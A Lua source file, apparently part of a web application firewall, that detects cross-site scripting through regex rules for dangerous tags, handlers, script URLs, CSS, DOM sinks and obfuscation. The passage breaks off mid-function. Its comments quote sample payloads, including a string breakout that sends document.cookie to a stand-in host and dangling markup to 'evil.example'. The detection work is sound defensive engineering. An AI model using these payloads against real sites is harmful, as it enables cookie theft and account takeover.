-- Cross-site scripting detection from markup and script structure.
--
-- Markup: every "<name" in the decoded value is read as a tag (with a
-- namespace prefix, "<x:script", or a processing instruction "<?import");
-- elements that run script, load content or change how a page is parsed
-- (script, iframe, object, embed, svg, style, meta, base, link, form...)
-- are hits, and so is any tag whose attributes carry an event handler
-- (on...=) or a script URL. Harmless markup (<b>, <em>, "Vec<String>",
-- "a < b") passes. Outside tags: event-handler attributes injected into an
-- attribute context (" onload=), script URL schemes (javascript:, vbscript:
-- with tabs/newlines/entities folded away), CSS that runs script
-- (expression(), -moz-binding, url(javascript:)), DOM sinks and the usual
-- script entry points called like code (alert(1), eval(...),
-- document.cookie, window["x"], tagged templates, JSFuck), SSI directives
-- and XML entity/include constructs.

local ffi = require "ffi"
local re_find = require("edge.waf.re").find
local re_match = require("edge.waf.re").match
local normalize = require "edge.waf.normalize"
local expr = require "edge.waf.expr"
local rules = require "edge.waf.rules"
local get = rules.get

local byte = string.byte
local find = string.find
local match = string.match
local gsub = string.gsub
local lower = string.lower
local char = string.char
local tonumber = tonumber
local ipairs = ipairs
local concat = table.concat
local sub = string.sub
local alt = rules.alt


local _M = { _VERSION = "0.1" }

_M.RULES = {
    { id = "xss-tag", severity = "critical", pl = 1,
      desc = "element that runs or loads script (script, iframe, svg, ...)" },
    { id = "xss-handler", severity = "critical", pl = 1,
      desc = "event handler attribute (on...=) in a tag or attribute context" },
    { id = "xss-handler-token", severity = "critical", pl = 2,
      desc = "event handler after a digit (inside base64-like tokens)" },
    { id = "xss-scheme", severity = "critical", pl = 1,
      desc = "script URL scheme (javascript:, vbscript:, livescript: or mocha: in an "
             .. "attribute, data:text/html)" },
    { id = "xss-css", severity = "critical", pl = 1,
      desc = "CSS that runs script (expression(), -moz-binding, url(javascript:)) "
             .. "or fetches from markup (a tag's style with url(), an attribute "
             .. "selector's rule)" },
    { id = "xss-dom", severity = "critical", pl = 1,
      desc = "DOM sink or script entry point called like code" },
    { id = "xss-attr-breakout", severity = "critical", pl = 1,
      desc = "a quote and a \">\" that close the attribute and the tag the value was "
             .. "written in, then an element that links, loads, submits, styles or "
             .. "handles an event (x\"><a href=...>)" },
    { id = "xss-js-breakout", severity = "critical", pl = 1,
      desc = "a JavaScript string the value closes, then a call and the rest of the "
             .. "line commented out (x';fetch('//h/?'+document.cookie)//)" },
    { id = "xss-clobber", severity = "critical", pl = 1,
      desc = "DOM clobbering: an image named after the document's own property "
             .. "(<img name=cookie>), or an id given twice, the second time with a name "
             .. "(<a id=x><a id=x name=y href=...>)" },
    { id = "xss-obfuscation", severity = "critical", pl = 1,
      desc = "JSFuck, tagged templates, spaced-out tag names" },
    { id = "xss-ssi", severity = "critical", pl = 1,
      desc = "server-side include directive" },
    { id = "xss-xml", severity = "critical", pl = 1,
      desc = "XML entity declaration, XInclude or namespace injection" },
    { id = "xss-dangling", severity = "critical", pl = 1,
      desc = "dangling markup: a tag's fetched URL opens a quote to another host "
             .. "and leaves it open (<img src='//host/?)" },
    { id = "xss-markup", severity = "notice", pl = 2,
      desc = "any HTML tag with attributes" },
}

local DANGEROUS = {}
-- Elements dangerous by themselves; the rest (svg, img, body, video...)
-- need an event handler or a script URL, which the attribute checks see.
for name in string.gmatch([[script iframe frame frameset object embed applet
    meta link base style form input button textarea isindex keygen
    bgsound layer ilayer import vmlframe xmp plaintext noscript noembed
    noframes template handler listener portal param title xml
    xml-stylesheet]], "[%a-]+") do
    DANGEROUS[name] = true
end
-- A bare opening tag (no attribute, no closing tag of the same name in
-- the value) of these is inert: "<input>" and "<title>" as placeholders
-- in a usage line, "Promise<Object>" as a type. Script content runs
-- even so.
local BARE_RUNS = { script = true, style = true }
-- Processing instructions that load code ("<?xml version=...?>" does not).
local PI_LOADS = { ["xml-stylesheet"] = true, import = true }
-- Namespace prefixes of markup a browser renders (XHTML served as XML,
-- inline SVG/MathML, XSLT): a namespaced tag with one of them, or with a
-- dangerous local name, is crafted markup ("<svg:svg>", "<x:script>"); a
-- root's name under a prefix of its own is data ("<mml:math>", JATS's
-- formulas: what it holds is read tag by tag).
local MARKUP_NS = {}
for name in string.gmatch("svg math html xhtml xsl xlink xml vml", "%a+") do
    MARKUP_NS[name] = true
end
-- ... of those dangerous elements, the ones that run or load something
-- under any prefix bound to XHTML's namespace; the others are dangerous
-- through the HTML parser's text rules ("</title>" closing a page's
-- title), which a namespaced tag is not read by: a record's "<dc:title>",
-- a sitemap's "<image:title>" are data
local NS_DANGEROUS = {}
for name in string.gmatch([[script iframe frame frameset object embed applet
    meta link base style form handler listener import portal vmlframe]], "%a+") do
    NS_DANGEROUS[name] = true
end

local RE_TAG = [=[<\s*([/?]?)\s*([a-z][a-z0-9_-]*)?(?:\s*:\s*([a-z][a-z0-9_-]*))?]=]
    .. [=[(?=[\s/>"'=]|$)]=]
local SPACED_LETTERS = [=[<\s*[a-z](?:[\s\x0b]+[a-z]){2,}\b]=]
local RE_SPACED_TAG = SPACED_LETTERS
-- ... unless its letters are all note names, a to g: a music notation's
-- chord ("<c e g>4", "<d f a>"); no element's name of three letters or
-- more is spelled with those alone, and a filter that drops the blanks
-- hands the browser no tag
local RE_SPACED_LETTERS = [=[\G]=] .. SPACED_LETTERS
local function spaced_tag(s)
    local at = find(s, "<", 1, true)
    for _ = 1, 64 do
        if not at then
            return false
        end
        local _, to = re_find(s, RE_SPACED_LETTERS, "jo", { pos = at })
        if to and find(sub(s, at, to), "[h-z]") then
            return true
        end
        at = find(s, "<", at + 1, true)
    end
    return false
end
local RE_ATTR_HANDLER = [=[^[^>]*?[\s"'/`;]on[a-z]{3,40}[\s\x0b]*=]=]
-- Attributes that run script or bind data into the page without an
-- event: IE data binding (datasrc/datafld/dataformatas), form and frame
-- targets (and SVG/MathML links to a script: xlink_runs).
local RE_ATTR_ACTIVE = [=[^[^>]*?[\s"'/`;](?:datasrc|datafld|dataformatas|formaction|srcdoc]=]
    .. [=[)[\s\x0b]*=]=]
local RE_ATTR_SCHEME = [=[^[^>]*?=\s*["'`]?\s*(?:(?:java|vb|live)script|mocha)\s*:]=]
-- (a handler runs its value as code: "*", "%", "^" or "#" start no
-- script, "OnCalendar=*-*-*" in a systemd timer, and a setting written
-- with spaces around "=" to a lone word or number, "online = true", is a
-- configuration file's line; a probe's "onerror=KCF" and an empty
-- "onload=" are still read as handlers)
-- (English words that start with "on" and name no event: "online =
-- €30" in a fee's rule; the window's event is "ononline")
-- (nor "oneway", an OSM tag's key, "onetime", "oneself", "oneshot")
local RE_HANDLER = [=[(?:^|[\s"'`;(,])on(?!(?:line|set|going|site|board|boarding|screen|wards?]=]
    .. [=[|shore|ion|ions|stage|eway|etime|eself|eshot)[\s\x0b]*=)[a-z]{3,40}[\s\x0b]*=]=]
    .. [=[(?![\s\x0b]*+[*%^#]|(?<=[\s\x0b]=)[\s\x0b]++["'`]?[\w$.-]++["'`]?]=]
    .. [=[(?:$|[\s\x0b>,]))]=]
    .. [=[|["'`]\s*(?:formaction|srcdoc|xlink:href)\s*=]=]
local RE_HANDLER_TOKEN = [=[[0-9]on[a-z]{3,40}[\s\x0b]*=]=]
local RE_SCHEME = alt({
    -- (a javascript: URL's code; "JavaScript: The Good Parts" is a title:
    -- two plain words side by side are no script; nor is one word that a
    -- sentence's "." or "," ends, "strips javascript: URLs.")
    [=[(?:^|[\s"'`=(,;:\[{<>])(?:(?:java|live)script\s*:(?!\s+(?!(?:void|typeof|new|delete]=]
        .. [=[|await|throw|function|var|let|const|if|do|while|for|with|return|try|this]=]
        .. [=[|eval|alert|prompt|confirm)\b)[a-z]+(?:\s+[a-z]|[.,](?:\s|$)))|vbscript\s*:)]=],
    -- (a data: URL of a type that runs script, at the value's start or
    -- after a quote, "=", "(" or a tag's bracket: an attribute's value;
    -- after a space, a sentence names it)
    [=[(?:^|["'`=(\[{<>])\s*data\s*:\s*(?:text/html|image/svg|application/(?:x-)?javascript)]=],
    [=[^\s*data\s*:\s*text/javascript]=],
    [=[\bdata\s*:\s*[\w/+.-]*\s*(?:;\s*base64)?\s*,\s*[<%]]=],
    [=[\bsrc\s*=\s*["']?\s*data\s*:]=],
})
-- (CSS's function token is its name glued to "(": "expression (string)"
-- is an ident and a group, a tool's description)
local RE_CSS = alt({
    [=[[:=(\s]\s*expression\(]=],
    [=[-moz-binding\s*:]=],
    [=[(?:^|[^\w-])binding\s*:\s*url\s*\(]=],
    [=[\bbehaviou?r\s*:\s*url]=],
    [=[-o-link(?:-source)?\s*:]=],
    [=[url\s*\(\s*["']?\s*(?:java|vb)script\b]=],
    [=[@import\s*["'(]?\s*(?:url|["']?(?:https?:)?//|(?:java|vb)script)]=],
    -- a tag's own style that fetches something (a beacon, a file read
    -- back, an SVG): what a style attribute in stored markup may do
    -- without script ("<span style=color:red>" fetches nothing)
    [=[<[a-z][^<>]*?[\s/"']style\s*=[^<>]*?\b(?:url|image-set)\s*\(]=],
    -- an attribute selector whose rule fetches: CSS reading a field's
    -- value out a byte at a time (input[value^=a]{background:url(..)})
    -- (a prefix, suffix or substring match: "[loading=\"lazy\"]" selects,
    -- it reads nothing out)
    [=[\[\s*[\w-]+\s*[\^$*~|]=[^\]]*\]\s*\{[^}]*?\burl\s*\(]=],
    -- a declaration the value closes before it opens any block, then a
    -- rule of its own that fetches from another site ("red;}
    -- body{background:url(https://x/?leak)}"): a stylesheet the value is
    -- written into beacons every visitor's page view
    [=[^[^{}]{0,200}\}\s*[^{}]{0,200}\{[^{}]*?\b(?:url|image-set)\s*\(\s*["']?\s*]=]
        .. [=[(?:https?:)?//]=],
    -- a link styled to cover the window (fixed, full width or height, or
    -- inset 0): every click on the page follows it (UI redress)
    [=[<a\b[^<>]*?[\s/"']style\s*=(?=[^<>]*?position\s*:\s*fixed)]=]
        .. [=[(?=[^<>]*?(?:(?:width|height)\s*:\s*100\s*(?:%|v[wh])|inset\s*:\s*0\b))]=],
})
-- What a payload reads, writes or calls through the DOM: a secret, the
-- page's content or its navigation (walking the tree, getElementById,
-- querySelector, .body, .forms and the like, is what every snippet in a
-- note does: what it does with the element found is read below).
local DOM_PROPS = alt({
    "cookie", "domain", "location", "write", "writeln", "open", "createelement",
    "referrer", "url", "documenturi", "baseuri", "localstorage",
    "sessionstorage", "opener", "navigate", "execcommand", "alert", "eval",
    "atob", "postmessage",
})
-- Code before a name: the value's start, a punctuation or operator (a
-- breakout, an attribute, a statement), or a keyword that takes an
-- expression. After an ordinary word and a space ("the alert() dialog",
-- "read document.cookie in the console") it is a name in a sentence: no
-- script context runs "word name(...)" (two names side by side are a
-- syntax error in JavaScript).
-- (not a backtick: "`confirm('Delete?')`" is a markdown code span in a
-- question, and a template literal closed right before a name is a
-- syntax error)
local CODE_BEFORE = [=[(?:^|[^\w\s`]\s*|(?<![\w$.])(?:return|void|typeof|new|delete|await]=]
    .. [=[|yield|throw|in|of|case|do|else|instanceof|default|extends)\s+)]=]
-- ... and before a dialog's name: a member of the window or of one of
-- its names for itself ("window.alert(1)", "top.alert", "(0,window).alert"),
-- not of another object ("SpreadsheetApp.getUi().alert('Saved')",
-- "bootbox.alert(...)": a library's own dialog)
-- (an event's view and a document's default view are the window too:
-- "$event.view.alert(1)")
-- (the window's names for itself; ROOTS below holds them too)
local WINDOW = { "window", "self", "top", "parent", "frames", "globalthis", "this",
                 "content", "opener" }
local WINDOW_NAMES = alt({ alt(WINDOW), "view", "defaultview" })
local DIALOG_BEFORE = "(?:" .. WINDOW_NAMES .. [=[\s*\.\s*|\(\s*(?:[\w$]+\s*,\s*)?]=]
    .. WINDOW_NAMES .. [=[\s*\)\s*\.\s*|(?<![\w$)])\.\s*|]=]
    .. sub(CODE_BEFORE, 4, -1):gsub("%[%^\\w\\s`%]", "[^\\w\\s`.]", 1)
local RE_DOM = alt({
    CODE_BEFORE .. [=[(?:document|window|self|top|parent|frames|globalthis|content)\s*\)?\s*]=]
        .. [=[(?:\.\s*]=] .. DOM_PROPS .. [=[\b|\[\s*["'`])]=],
    -- an element found by a selector, then written to ('.textContent="x"'),
    -- its HTML or a field's value read, or the form sent or the element
    -- clicked ('.addEventListener(...)', '.classList.toggle(...)' and a
    -- read of its text are the page's own code)
    CODE_BEFORE .. [=[(?:document|window|self|top|parent|frames|globalthis|content)\s*\.\s*]=]
        .. [=[queryselector(?:all)?\s*\(\s*(?:"[^"]*"|'[^']*'|`[^`]*`|[\w$.]+)\s*\)\s*]=]
        .. [=[(?:\[\s*\d+\s*\]\s*)?\.\s*(?:[\w$]+\s*=(?!=)]=]
        .. [=[|(?:innerhtml|outerhtml|submit|click|insertadjacenthtml)\b)]=],
    -- (called with nothing, eval and the timers run nothing, and an
    -- empty call a word follows is named in a sentence: "the alert()
    -- box", "`eval()` is slow")
    -- (an arrow function given to a timer, "setTimeout(() => f(), 300)",
    -- is the page's own code: what it calls is read on its own)
    -- (a name that ends in "." is no operand: "confirm (v.) -> bestätigen", a
    -- glossary's part of speech)
    -- (nor an "s" alone in the group, a noun's optional plural: "the
    -- prompt(s) you send", "'alert(s)' in the claims")
    DIALOG_BEFORE .. [=[(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript|atob|btoa)]=]
        .. [=[\s*\(\s*(?:[\d"'`\[/]|\((?![\w$,\s]*\)\s*=>)]=]
        .. [=[|(?!e?s\))[\w$]+(?:\.[\w$]+)*\s*[),+(])]=],
    DIALOG_BEFORE .. [=[(?:alert|prompt|confirm|atob|btoa)\s*\(\s*\)(?!\s*`?\s+[a-z])]=],
    [=[\bimportscripts\s*\(\s*["'`]]=],
    -- a script element made (by any document: "appendChild(createElement(
    -- 'script')).src=...")
    [=[\bcreateelement\s*\(\s*["'`]script["'`]\s*\)]=],
    -- a script entry point called through Function.prototype, or read as
    -- a value to be called later under another name
    [=[\b(?:alert|prompt|confirm|eval|settimeout|setinterval|execscript|function|unescape]=]
        .. [=[|atob)\s*\.\s*(?:call|apply|bind)\s*\(]=],
    [=[[=,:(]\s*eval\s*[;,)]]=],
    -- ... given to a method ("[1].map(alert)", "reflect.apply(confirm,"),
    -- assigned to a name then called by it ("f=prompt,f(1)"), or called
    -- optionally ("alert?.(1)")
    [=[\.\s*[a-z_$][\w$]*\s*\(\s*(?:alert|prompt|confirm|eval)\s*[,)]]=],
    [=[(?<![\w$.])(?<sink>[a-z_$][\w$]*)\s*=\s*(?:alert|prompt|confirm|eval)\s*[;,]]=]
        .. [=[\s*\k<sink>\s*[(`]]=],
    [=[(?<![\w$.])(?:alert|prompt|confirm|eval)\s*\?\.\s*[(`]]=],
    -- ... or in parentheses, alone or after a comma expression, and
    -- called at once with code for an argument ("(0, confirm)(1)",
    -- "(window.prompt)(1)"; "(confirm)(optional)" is a word in prose)
    [=[\(\s*(?:[\w$.'"]+\s*,\s*)*]=]
        .. [=[(?:(?:window|self|top|parent|frames|globalthis)\s*\.\s*)?]=]
        .. [=[(?:alert|prompt|confirm|eval)\s*\)]=]
        .. [=[(?:\(\s*(?:\)|[\d"'`\[(/]|[\w$]+\s*\.\s*[\w$])|`)]=],
    -- the DOM as the scope of bare names: with(document) write(...)
    [=[\bwith\s*\(\s*(?:document|window|self|top|parent|frames|location)\s*\)]=],
    [=[\bnew\s+function\s*\(]=],
    [=[\bfunction\s*\(\s*\)\s*\{]=],
    [=[\bstring\s*\.\s*fromcharcode\s*\(]=],
    [=[\b(?:document\.|top\.|window\.)?location\s*(?:\.\s*href\s*)?=\s*["'`]?\s*]=]
        .. [=[(?:javascript|https?:|//)]=],
    -- (the same navigation by the location's methods)
    [=[(?<![\w$])location\s*\.\s*(?:assign|replace)\s*\(\s*["'`]?\s*]=]
        .. [=[(?:javascript|https?:|//)]=],
    -- (a module imported from another host, or from a data: or blob:
    -- URL; a relative path is the page's own, and OpenSCAD's
    -- 'import("part.stl")' a mesh)
    [=[\bimport\s*\(\s*["'`]\s*(?:[a-z][\w+.-]*:|//|\\\\)]=],
    [=[\.(?:innerhtml|outerhtml)\s*=]=],
    [=[\$\s*\.\s*getscript\s*\(]=],
})
-- Property names built at run time and called: "1[__+_](...)",
-- "top[a+b](...)", "7[x](y)" (a number indexed is only ever a way to
-- reach Function/eval), "(...)['x'](...)"; JSFuck's "+[]" and "![]".
local RE_OBFUSCATION = alt({
    [=[[!+]\s*!*\s*\[\s*\]]=],
    [=[[\w$\])]\s*\[\s*[a-z_$][\w$]*(?:\s*\+\s*[a-z_$][\w$]*)+\s*\]\s*\(]=],
    [=[(?<![\w$.])\d+\[\s*[a-z_$][\w$+\s]*\]\s*\(]=],
    [=[\)\s*\[\s*["'`]\w+["'`]\s*\]\s*\(]=],
    -- a name spelled by literals: a regular expression's source or a
    -- number written in a base up to 36, inside the brackets, then called
    [=[\[[^\n]{0,80}?/[^/\n]{1,40}/\s*\.\s*source\b[^\n]{0,80}?\]\s*\(]=],
    [=[\[[^\n]{0,40}?\d\s*\)?\s*\.\.?\s*tostring\s*\(\s*\d+\s*\)[^\n]{0,80}?\]\s*\(]=],
})
-- (and Edge Side Includes: the elements a cache in front of the
-- application runs when the value is echoed in a page)
local RE_SSI = [=[<!--\s*#\s*(?:exec|include|echo|set|config|printenv|fsize|flastmod|if|elif)\b]=]
    .. [=[|<\s*esi\s*:\s*(?:include|inline|vars|assign|choose|when|otherwise|try|attempt]=]
    .. [=[|except|eval|debug|remove|comment|function|param|text|foreach|break|return)\b]=]
local RE_XML = alt({
    [=[<!entity\b]=],
    [=[<!doctype\s+[\w:-]+\s*(?:\[|system\b|public\b)]=],
    [=[!entity\s+%?\s*[\w-]+\s+(?:system|public)\b]=],
    [=[\bxi:include\b]=],
    -- (a prefix bound to a namespace of markup that runs or loads:
    -- XHTML's, SVG's, MathML's, XSLT's, XInclude's, XLink's, VML's; a
    -- record's own vocabulary, "xmlns:dc=\"http://purl.org/dc/...\"", is
    -- data)
    [=[\bxmlns(?::[\w-]+)?\s*=\s*["']?\s*(?:(?:https?:)?//(?:www\.)?w3\.org/]=]
        .. [=[(?:1999/xhtml|2000/svg|1998/math|1999/xsl|2001/xinclude|1999/xlink]=]
        .. [=[|2001/xml-events)]=]
        .. [=[|urn:schemas-microsoft-com:(?:vml|xslt))]=],
    [=[\bxsi:schemalocation\b]=],
    -- (up to the next "<" too: from each of thousands of "<" with no ">",
    -- each scanned to the end)
    [=[<\s*[\w:-]+[^<>]*\bsystem\s+["'](?:https?|file|ftp|php|jar|expect|gopher)]=],
})
local RE_MARKUP = [=[<[a-z][a-z0-9]*\s+[a-z-]+\s*=]=]
-- Dangling markup: a tag whose fetched URL (src, background, poster,
-- data, srcset: fetched as the page loads) opens a quote to another host
-- and never closes it, so the page's own text up to the next such quote
-- (a token, a form's values) becomes the URL's query ("<img
-- src='//evil.example/?"). A link cut short ("<a href=\"https://x/docs")
-- fetches nothing until clicked.
local RE_DANGLING = [=[<[a-z][a-z0-9]*[\s/][^<>]*?\b(?:src|background|poster|data|srcset)]=]
    .. [=[\s*=\s*(?:'(?:https?:)?//[^'<>]*|"(?:https?:)?//[^"<>]*)$]=]

-- A JavaScript string the value closes (at most one token before the
-- quote, an operator or ";" glued after it), a call, and "//" or "<!--"
-- ending the line: the rest of the page's statement commented out
-- ("x';fetch('//h/?'+document.cookie)//", "\";new Image().src=...//").
-- Prose closes no quote after one token to go on with an operator, and
-- code in a note starts with its own statement, not inside a string.
-- (the call found by a lookahead and the end from the back: linear)
-- An attribute's value closed by the value, then its tag, then an element
-- of the value's own with attributes: markup injected from an attribute
-- ("Orchard\"><a href=\"//h/signin\">Confirm</a>", a phishing link or a
-- form): one that links, loads, submits, styles or handles an event (a
-- pasted fragment's '..."><img class="size-full"' does none). The value
-- has no markup before the quote: a snippet of markup opens its tags
-- itself ("<div class=\"a\"><a href=...>").
local RE_ATTR_BREAKOUT = [=[^[^<>\n]{0,200}?["'`]\s*>\s*<[a-z][a-z0-9]*\s+(?:[^<>]{0,200}?\s)?]=]
    .. [=[(?:href|src|action|formaction|srcdoc|data|background|poster|style|on[a-z]{3,})\s*=]=]
local RE_JS_BREAKOUT = [=[^[^\s'"`]{0,32}['"`]\s*(?:;|\+|-|\*|\|\||&&|,|\)+\s*;?)]=]
    .. [=[(?=[^\n]*?[\w$\])]\s*\()[^\n]*(?://|<!--)\s*$]=]

local CSS_NEEDLES = { "expression", "binding", "behavio", "url", "@import", "image-set",
                      "position" }
local DOM_NEEDLES = {
    "document", "window", "self", "top", "parent", "frames", "globalthis",
    "content", "alert", "prompt", "confirm", "eval", "settimeout",
    "setinterval", "execscript", "atob", "btoa", "importscripts",
    "function", "fromcharcode", "location", "import", "innerhtml",
    "outerhtml", "getscript", "unescape", "createelement",
}
-- One of the names as a word, then what code puts after it.
local DOM_GATE = [=[\b(?:]=] .. concat(DOM_NEEDLES, "|") .. [=[)\s*[.\[(=)`;,?]]=]
_M.DOM_GATE = DOM_GATE

-- DOM_GATE read backwards from each byte that may follow a name: spaces,
-- then a whole word (PCRE's \w: [A-Za-z0-9_]; the name cannot be part of
-- a longer word, since the byte after it is a space or one of these)
-- that is one of the names. The regex's start bytes are most letters, so
-- PCRE tried it at nearly every byte of prose (~6 us on a 1.5 KB note);
-- tests/test_35_waf_gates.py requires the same answers.
local DOM_AFTER = ffi.new("uint8_t[256]")
local WORD = ffi.new("uint8_t[256]")
local SPACE = ffi.new("uint8_t[256]")
local DOM_NAME = {}
-- each name's length, first and last byte as one number: looked up before
-- the word is made a string (most words before a "." or "," are not names)
local DOM_KEY = {}
local DOM_LONGEST = 0
do
    for i = 1, #".[(=)`;,?" do
        DOM_AFTER[byte(".[(=)`;,?", i)] = 1
    end
    for c = 0, 255 do
        local ch = string.char(c)
        if find(ch, "^[%w_]$") then
            WORD[c] = 1
        end
    end
    -- PCRE's \s: space, \t \n \v \f \r
    for _, c in ipairs({ 32, 9, 10, 11, 12, 13 }) do
        SPACE[c] = 1
    end
    for _, w in ipairs(DOM_NEEDLES) do
        DOM_NAME[w] = true
        DOM_KEY[#w * 65536 + byte(w, 1) * 256 + byte(w, -1)] = true
        if #w > DOM_LONGEST then
            DOM_LONGEST = #w
        end
    end
end
local uint8_ptr = ffi.typeof("const uint8_t *")


local function dom_gate(s)
    local p = ffi.cast(uint8_ptr, s)
    for t = 1, #s - 1 do
        if DOM_AFTER[p[t]] ~= 0 then
            local k = t - 1
            while k >= 0 and SPACE[p[k]] ~= 0 do
                k = k - 1
            end
            local e = k
            while k >= 0 and WORD[p[k]] ~= 0 and e - k <= DOM_LONGEST do
                k = k - 1
            end
            if e > k and e - k <= DOM_LONGEST
                    and DOM_KEY[(e - k) * 65536 + p[k + 1] * 256 + p[e]]
                    and DOM_NAME[sub(s, k + 2, e + 1)] then
                return true
            end
        end
    end
    return false
end
_M.dom_gate = dom_gate

-- A dialog's name written only with a capital ("Prompt (de): ...", a
-- label; "Alert (3)") calls nothing: JavaScript's names are
-- case-sensitive. Read again without those names, the value must still
-- show a call (v.dec: decoded, as written).
-- (only a word in title case, each time: a random mix of cases, "aLeRt",
-- is an evasion's spelling, read as before)
local DIALOGS = { "alert", "prompt", "confirm" }
local TITLED = {}
for i, w in ipairs(DIALOGS) do
    TITLED[i] = string.upper(sub(w, 1, 1)) .. sub(w, 2)
end
local function dom_as_written(text, v)
    local dec, t = v.dec, text
    if not dec then
        return true
    end
    for i = 1, #DIALOGS do
        local w = DIALOGS[i]
        if find(t, w, 1, true) and not find(dec, w, 1, true) then
            local _, titled = gsub(dec, TITLED[i], "")
            local _, any = gsub(v.low, w, "")
            if titled == any then
                t = gsub(t, w, "_" .. sub(w, 2))
            end
        end
    end
    return t == text or re_find(t, RE_DOM, "jo") ~= nil
end

local GATE = [=[[<>"'`:;=(\[{!+&]|script|on[a-z]|\bdocument\b|\bwindow\b]=]
local CONTROL = [=[[\x00-\x1f]]=]


-- Is the dangerous element at this tag one a browser would act on? A
-- closing tag (a breakout of title, textarea, style...), a tag with
-- attributes or cut off at the end of the value, or an opening tag
-- closed later in the value; a bare "<name>" alone is a placeholder or a
-- type argument. A bare "<script>" runs its content unless JavaScript
-- rejects it (edge.waf.expr.script_rejects: "an SVG may hold
-- <script> tags; sanitize uploads" is prose) or it can do nothing.
local function element_acts(s, name, closing, e)
    if closing then
        return true
    end
    local c = byte(s, e)
    while c == 32 or c == 9 or c == 10 or c == 13 or c == 12 do
        e = e + 1
        c = byte(s, e)
    end
    if c ~= 62 then                                      -- not ">"
        return true
    end
    if name == "script" then
        local close = find(s, "</script", e + 1, true)
        local j = (close or #s + 1) - 1
        -- (content of words with no call, assignment, template, index,
        -- escape, block, update, regular expression or markup, "remove
        -- <script> tags": it reads a variable at most, and does nothing;
        -- a bare tag alone is a probe of the filter, as before)
        local content = sub(s, e + 1, j)
        if find(content, "%w") and not find(content, "[%(=`%[\\&%+%-{/<]") then
            return false
        end
        return not expr.script_rejects(s, e + 1, j, close ~= nil)
    end
    return BARE_RUNS[name] or find(s, "</" .. name, e, true) ~= nil
end


-- Head elements that describe the page for search engines and link
-- previews act on nothing: a <meta> without http-equiv (a refresh, a
-- cookie, a policy) or charset ("<meta name=\"description\" content=...>",
-- "<meta property=\"og:title\" ...>"), a <link> whose rel names no
-- resource the page loads or runs ("alternate", "canonical" with
-- hreflang). A <link> with no rel, or one that loads (stylesheet,
-- import, preload, modulepreload, prefetch, prerender, manifest, icon),
-- still acts. Read within the tag, up to its ">".
local LINK_LOADS = {}
for w in string.gmatch([[stylesheet import preload modulepreload prefetch
    prerender manifest icon serviceworker pingback]], "%a+") do
    LINK_LOADS[w] = true
end

local function head_tag_inert(name, rest)
    local tag = match(rest, "^[^<>]*") or ""
    local low = lower(tag)
    if name == "meta" then
        return not find(low, "http%-equiv") and not find(low, "charset")
    end
    if name == "link" then
        -- (no href: nothing to load, "<link>https://...</link>", a feed's
        -- element)
        if not find(low, "href", 1, true) then
            return true
        end
        local rel = match(low, "%f[%w]rel%s*=%s*[\"']([^\"']*)[\"']")
            or match(low, "%f[%w]rel%s*=%s*([%w%-]+)")
        if not rel or find(low, "%f[%w]rel%s*=.-%f[%w]rel%s*=") then
            return false
        end
        local any = false
        for w in string.gmatch(rel, "[%a%-]+") do
            any = true
            if LINK_LOADS[w] or find(w, "icon", 1, true) then
                return false
            end
        end
        return any
    end
    return false
end


-- Form controls in a markdown fence ("```html" ... "```"), the search
-- box a note shows as an example: a <form> whose action is missing or
-- relative, an <input>, a <button> and their closing tags submit nowhere
-- but to their own page, and a markdown renderer prints them as code.
-- Outside a fence they stay elements (a form's ids and names clobber a
-- page's globals, "<form id=cfg><input name=api value=...>"; autofocus; a
-- pattern's backtracking). Their handlers, formaction and script URLs are
-- the attribute checks' in a fence too; a form that posts to another
-- origin (an absolute or scheme-relative action) acts, and so does a tag
-- cut off before its ">" (dangling markup).
local FORM_CONTROLS = { form = true, input = true, button = true }
local RE_FORM_ELSEWHERE = [=[\baction[\s\x0b]*=[\s\x0b]*["'`]?[\s\x0b]*]=]
    .. [=[(?:[a-z][\w+.-]*:|[/\\]{2})]=]

-- Is position at inside a fenced block: after an odd number of fence
-- lines ("```" first on its line), with one still to come?
local function in_fence(s, at)
    local open, i = false, 1
    for _ = 1, 64 do
        local f = find(s, "```", i, true)
        if not f then
            return false
        end
        if f > at then
            return open
        end
        local b = f - 1
        while b > 0 and (byte(s, b) == 32 or byte(s, b) == 9) do
            b = b - 1
        end
        if b == 0 or byte(s, b) == 10 then
            open = not open
        end
        i = f + 3
    end
    return false
end

-- A form with no action and no control anywhere in the value, a data
-- format's element by that name (BeerXML's "<FORM>Pellet</FORM>"): there
-- is nothing to fill in and nowhere to send it.
local function form_without_controls(s, e)
    local tag = match(s, "^[^<>]*>", e)
    return tag ~= nil and not find(tag, "action", 1, true)
        and not find(s, "<input", 1, true) and not find(s, "<button", 1, true)
        and not find(s, "<textarea", 1, true) and not find(s, "<select", 1, true)
        and not find(s, "<isindex", 1, true)
end

-- (or, anywhere, an <input> or <button> given only its type, how it
-- looks and what assistive technology reads, "<input type=color>" in a
-- search, '<button aria-label="Close">': no name or form to take part
-- in, no value, no focus, no action, nothing to submit; an id clobbers
-- a global with the element itself, nothing a script can be given)
local RE_CONTROL_PLAIN = [=[^(?:\s+(?:type|placeholder|disabled|checked|readonly|size|min|max]=]
    .. [=[|step|id|class|title|role|aria-[a-z]+|autocomplete|required|inputmode]=]
    .. [=[|spellcheck|dir|lang|hidden)(?:\s*=\s*(?:"[^"<>]*"|'[^'<>]*'|[\w#.-]+))?)*\s*/?>]=]
local function form_control_inert(name, s, e)
    local tag = match(s, "^[^<>]*>", e)
    if tag ~= nil and name ~= "form" and re_find(tag, RE_CONTROL_PLAIN, "jo") then
        return true
    end
    return tag ~= nil and (name ~= "form" or not re_find(tag, RE_FORM_ELSEWHERE, "jo"))
        and in_fence(s, e)
end


-- A tag's handlers (rest: from after its name): does one of them run?
-- JSX writes a handler as a braced expression, "onClick={() =>
-- select(x.id)}": to an HTML parser an unquoted value ends at the first
-- blank (or ">"), so the handler's code is "{()", a block never closed: a
-- syntax error, nothing runs. A braced value closed before its first
-- blank runs ("onclick={alert(1)}"), and so does any other value.
local HTML_BLANK = { [32] = true, [9] = true, [10] = true, [12] = true, [13] = true }
local HANDLER_BEFORE = { [32] = true, [9] = true, [10] = true, [12] = true, [13] = true,
                         [11] = true, [34] = true, [39] = true, [47] = true, [96] = true,
                         [59] = true, [40] = true, [44] = true }

-- An xlink:href runs what its URL says: a scheme a script or a document
-- is made from (javascript:, data:, an obfuscated one), not a web
-- address or a relative one (a JATS article's '<ext-link
-- xlink:href="https://example.org/...">', '<graphic xlink:href="f2b.png"/>').
local XLINK_SAFE = { http = true, https = true, ftp = true, mailto = true, doi = true }

local function xlink_runs(low)
    local i = 1
    for _ = 1, 16 do
        local _, e = find(low, "xlink:href%s*=%s*", i)
